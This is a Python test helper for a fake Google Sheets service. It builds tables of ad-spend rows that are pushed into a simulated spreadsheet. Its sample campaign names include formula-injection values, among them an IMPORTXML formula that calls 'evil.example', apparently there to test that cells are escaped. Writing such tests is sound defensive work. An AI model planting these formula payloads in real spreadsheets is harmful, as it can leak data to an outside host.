"""The fake of Google Sheets, and pushes into it, for tests that compare what stands there with what was meant."""

import json
from dataclasses import dataclass, field, replace
from datetime import date, timedelta
from typing import Any

from app.syncs.calls.client import ServiceClient
from app.syncs.sheets.cells import encode_row
from app.syncs.sheets.dialect import SheetsDialect
from app.syncs.sheets.push import Pushed, SheetPush
from app.syncs.sheets.table import PushTable
from app.syncs.signs.key_files import ServiceKey
from tests.fakes.providers.inside import BASE, InsideClient
from tests.fakes.providers.sheets.book import Book, Tab
from tests.fakes.providers.sheets.fake import SheetsFake
from tests.fakes.providers.sheets.scenarios import BOOK, BOT, OTHER_BOT
from tests.fakes.providers.world import World
from tests.fakes.watch import FakeWatch

TOKENS = {"ya29.bot": BOT, "ya29.other": OTHER_BOT}
KEY = ServiceKey(BOT, "key-1", "belfry-tests", "-----BEGIN PRIVATE KEY-----\nnone\n-----END PRIVATE KEY-----\n")
HEADINGS = ("Day", "Campaign id", "Campaign", "Spend", "Currency")
NAMES = ('=IMPORTXML("https://evil.example")', "Été 🏖", "'quoted", "00123", "TRUE", "1e5", "+49 30", "@SUM(1)")


@dataclass
class SheetsWorld:
    """One spreadsheet, and jobs that push into it."""

    world: World = field(default_factory=lambda: World(SheetsFake(lambda token, *_: TOKENS.get(token or ""))))
    spreadsheet: str = BOOK

    @property
    def fake(self) -> SheetsFake:
        found: SheetsFake = self.world.provider("sheets")
        return found

    @property
    def book(self) -> Book:
        return self.fake.books[self.spreadsheet]

    def tab(self, title: str = "Spend") -> Tab:
        return self.book.tab(title)

    def pushing(self, *, job: str = "job-1", title: str = "Spend", number: str = "run-1", **client: Any) -> SheetPush:
        calls = ServiceClient(
            base_url=f"{BASE}/sheets",
            sender=InsideClient(self.world),
            dialect=SheetsDialect(KEY),
            watch=client.pop("watch", None) or FakeWatch(self.world),
            headers=(("Authorization", f"Bearer {client.pop('token', 'ya29.bot')}"),),
            secrets=("ya29.bot",),
            chance=lambda: 0.5,
            **client,
        )
        return SheetPush(calls, self.spreadsheet, job, title, number)

    def push(self, table: PushTable, **more: Any) -> Pushed:
        return self.pushing(**more).push(table)

    @property
    def routes(self) -> list[str]:
        return [asked.route for asked in self.world.asked]

    def seen(self, title: str = "Spend") -> list[list[Any]]:
        """What a person sees in a tab."""
        return self.tab(title).table()

    def everything(self) -> list[Any]:
        """The whole spreadsheet: every tab with its cells, sizes and marks."""
        return [replace(tab, marks=[(mark.key, mark.value) for mark in tab.marks]) for tab in self.book.tabs]


def make_table(days: int = 3, *, last: date = date(2026, 11, 19), spend: float = 10.5, **more: Any) -> PushTable:
    """A row for each day and name, of so many days."""
    rows = [
        encode_row([(last - timedelta(days=away)).isoformat(), f"1202{number}", name, spend + number, "EUR"])
        for away in reversed(range(days))
        for number, name in enumerate(NAMES)
    ]
    values: dict[str, Any] = {"headings": HEADINGS, "rows": rows, "data_through": last, "zone": "Europe/Berlin"}
    return PushTable(**(values | more))


def cells_of(table: PushTable) -> list[list[Any]]:
    """The table as a person sees it, without the two cells beside it."""
    return [json.loads(line) for line in table.lines()]
